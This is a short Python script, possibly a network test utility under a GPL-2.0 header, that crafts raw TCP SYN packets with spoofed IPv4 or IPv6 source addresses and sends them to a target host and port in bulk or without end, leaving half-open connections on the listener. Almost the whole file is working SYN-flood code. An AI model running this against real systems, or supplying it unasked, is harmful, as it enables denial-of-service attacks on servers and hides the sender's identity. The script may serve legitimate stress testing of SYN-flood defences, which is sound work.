#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""Send TCP SYNs from spoofed sources through a raw socket (root).

    synflood.py DST_ADDR DST_PORT SRC_PREFIX COUNT

SRC_PREFIX is an IPv4 /16 (a.b.0.0) or an IPv6 /64 (x:y::): SYN i comes
from the (i % 65000 + 1)-th address of it, port 10000 + i % 50000.
COUNT 0: until killed, about 100 SYNs a second.
Nothing answers for those sources, so each SYN leaves a half-open request
on the listener that receives it until the listener gives up on it.
"""
import ipaddress
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def tcp_syn(src, dst, sport, dport, seq, pseudo):
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02,
                      65535, 0, 0)
    c = csum(pseudo + hdr)
    return hdr[:16] + struct.pack("!H", c) + hdr[18:]


def main():
    dst = ipaddress.ip_address(sys.argv[1])
    dport = int(sys.argv[2])
    base = ipaddress.ip_address(sys.argv[3])
    count = int(sys.argv[4])
    v6 = dst.version == 6
    fam = socket.AF_INET6 if v6 else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
    i = 0
    while not count or i < count:
        src = base + 1 + i % 65000
        sport = 10000 + i % 50000
        seq = (i * 2654435761) & 0xFFFFFFFF
        if v6:
            pseudo = src.packed + dst.packed + struct.pack("!IxxxB", 20, 6)
            tcp = tcp_syn(src, dst, sport, dport, seq, pseudo)
            ip = struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + \
                src.packed + dst.packed
            s.sendto(ip + tcp, (str(dst), 0))
        else:
            pseudo = src.packed + dst.packed + struct.pack("!xBH", 6, 20)
            tcp = tcp_syn(src, dst, sport, dport, seq, pseudo)
            ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), i & 0xFFFF,
                             0, 64, 6, 0) + src.packed + dst.packed
            ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
            s.sendto(ip + tcp, (str(dst), 0))
        i += 1
        if not count:
            time.sleep(0.01)
    return 0


if __name__ == "__main__":
    sys.exit(main())
